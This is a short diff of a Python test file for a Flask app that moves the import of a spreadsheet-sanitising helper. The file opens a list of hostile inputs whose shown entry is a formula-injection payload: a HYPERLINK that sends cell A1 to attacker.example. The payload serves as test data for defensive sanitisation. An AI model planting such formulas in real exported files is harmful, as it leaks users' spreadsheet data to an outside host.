@@ -9,8 +9,8 @@ import io
 import pytest
 from flask import Flask
 
+from traceqr.domain.spreadsheet import spreadsheet_safe
 from traceqr.web.authority.tables import Cell, DataTable, csv_download
-from traceqr.web.security import spreadsheet_safe
 
 HOSTILE = [
     '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")',
